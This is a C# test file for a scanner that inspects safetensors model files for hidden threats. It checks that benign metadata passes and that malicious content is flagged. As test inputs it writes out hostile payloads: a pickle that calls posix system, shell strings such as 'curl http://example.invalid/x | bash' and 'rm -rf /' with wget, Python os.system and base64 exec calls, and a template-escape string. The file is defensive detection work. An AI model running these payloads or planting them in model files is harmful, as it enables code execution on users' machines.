using System.Collections.Immutable;
using System.Text;
using Bulwark.Models;
using Bulwark.Scanning;
using Bulwark.Scanning.Pickle;
using Bulwark.Scanning.Safetensors;
using Bulwark.Storage;
using Bulwark.Testing;
using Bulwark.Tests.Fuzzing;

namespace Bulwark.Tests.Scanning.Safetensors;

public sealed class SafetensorsScannerTests
{
    private static readonly byte[] Payload = [0x80, 2, .. "cposix\nsystem\nX\u0007\0\0\0echo hi"u8, 0x85, (byte)'R', (byte)'.'];

    private static byte[] File(Dictionary<string, string>? metadata, byte[] data, DType dtype = DType.U8) =>
        [.. SafetensorsWriter.WriteHeader([("w", dtype, ImmutableArray.Create((long)data.Length))], metadata), .. data];

    private static async Task ExpectAsync(Verdict verdict, byte[] bytes, string? rule = null)
    {
        ScanContext context = await ScanProbe.RunAsync(SafetensorsScanner.ScanAsync, bytes, "model.safetensors", ScanPickleAsync);
        Assert.True(context.Verdict == verdict, $"{context.Verdict} {context.Describe()}");
        if (rule is not null)
            Assert.Contains(rule, context.Findings.Select(f => f.Rule.Id));
    }

    private static async Task ScanPickleAsync(IObjectReader content, string path, int depth, ScanContext context, CancellationToken cancellationToken)
    {
        if (await PickleScanner.LooksLikePickleAsync(content, 0, cancellationToken))
            await PickleScanner.ScanAsync(content, path, depth, context, cancellationToken);
    }

    [Fact]
    public async Task Metadata_of_genuine_files_is_benign() => await ExpectAsync(
        Verdict.Benign,
        File(
            new()
            {
                ["format"] = "pt",
                ["license"] = "Apache-2.0",
                ["url"] = "https://example.invalid/model",
                ["ss_network_args"] = """{"conv_dim": "4", "algo": "lora"}""",
                ["modelspec.description"] = "An image model. Use it in eval mode (model.eval()); run python -m pip install safetensors first.",
                ["modelspec.thumbnail"] = "data:image/jpeg;base64,/9j/4AAQSkZJRgABAQAAAQABAAD/2wBDAAgGBgcGBQgHBwcJCQgKDBQNDAsLDBkSEw8UHRofHh0a",
                ["hash"] = "c5f2b9a1d3e4f5061728394a5b6c7d8e9fa0b1c2d3e4f5061728394a5b6c7d8e",
            },
            new byte[8]));

    [Theory]
    [InlineData("import os; os.system('echo pwned')")]
    [InlineData("__import__('os').system('id')")]
    [InlineData("rm -rf / && wget http://example.invalid/x")]
    [InlineData("<script>alert(1)</script>")]
    [InlineData("curl http://example.invalid/x | bash")]
    [InlineData("exec(base64.b64decode('cHJpbnQoMSk='))")]
    [InlineData("TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAA")]
    public async Task Code_in_metadata_is_suspicious(string value) => await ExpectAsync(Verdict.Suspicious, File(new() { ["note"] = value }, new byte[8]), "BWS1403");

    [Fact]
    public async Task A_pickle_encoded_in_metadata_is_scanned() =>
        await ExpectAsync(Verdict.Malicious, File(new() { ["state"] = Convert.ToBase64String(Payload) }, new byte[8]));

    [Fact]
    public async Task A_template_in_metadata_is_analysed() =>
        await ExpectAsync(Verdict.Malicious, File(new() { ["chat_template"] = "{{ ().__class__ }}" }, new byte[8]));

    [Fact]
    public async Task What_is_appended_is_seen()
    {
        byte[] model = File(null, new byte[8]);
        await ExpectAsync(Verdict.Benign, model);
        await ExpectAsync(Verdict.Malformed, [.. model, 1, 2, 3], "BWS1401");
        await ExpectAsync(Verdict.Malicious, [.. model, .. ZipBytes.Tiny], "BWS2001");
        await ExpectAsync(Verdict.Malicious, [.. model, .. Payload], "BWS2001");
    }

    [Fact]
    public async Task A_zip_as_the_last_tensor_is_seen() => await ExpectAsync(Verdict.Malicious, File(null, ZipBytes.Tiny), "BWS2001");

    [Fact]
    public async Task A_program_as_a_tensor_is_suspicious() =>
        await ExpectAsync(Verdict.Suspicious, File(null, [0x7F, .. Encoding.ASCII.GetBytes("ELF"), .. new byte[100]]), "BWS1404");

    [DataFact]
    public async Task Damaged_files_stop_no_scan()
    {
        byte[] bytes = await System.IO.File.ReadAllBytesAsync(SharedData.PathOf("scan", "malicious", "safetensors", "polyglot_zip.safetensors"));
        await ParserFuzz.RunAsync(bytes, 0, async r => await ScanProbe.RunAsync(SafetensorsScanner.ScanAsync, r, "m.safetensors"));
    }
}
